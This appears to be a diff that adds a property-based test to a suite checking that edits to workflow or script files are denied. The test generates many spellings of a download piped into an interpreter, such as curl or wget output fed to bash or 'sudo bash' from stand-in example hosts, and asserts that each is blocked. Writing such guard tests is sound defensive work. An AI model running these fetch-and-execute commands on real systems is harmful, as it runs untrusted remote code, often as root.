@@ -177,3 +177,16 @@ def test_random_additions_of_forbidden_constructs_are_always_denied(line, spot, 
         anchor, replacement = YAML_ATTACKS[yaml_attack]
         new = new.replace(anchor, replacement, 1)
     assert denied(Edit(path=WF, old=REAL_SHAPED, new=new))
+
+
+DOWNLOADS = st.sampled_from(["curl -fsSL", "curl -s", "wget -qO-", "wget -O -", "/usr/bin/curl -L"])
+RUNNERS = st.sampled_from(["sh", "bash", "sudo bash", "sudo -E bash", "env sh", "python3", "perl",
+                           "timeout 30 bash -s", "sudo -u root -- bash", "/bin/sh -"])
+JOINERS = st.sampled_from([" | ", " |", " \\\n          | ", " | tee /tmp/x | "])
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(download=DOWNLOADS, runner=RUNNERS, joiner=JOINERS, host=st.from_regex(r"[a-z]{3,8}\.example", fullmatch=True))
+def test_any_spelling_of_a_download_piped_into_an_interpreter_is_denied(download, runner, joiner, host):
+    line = f"{download} https://{host}/install{joiner}{runner}"
+    assert denied(script_edit(line)), line
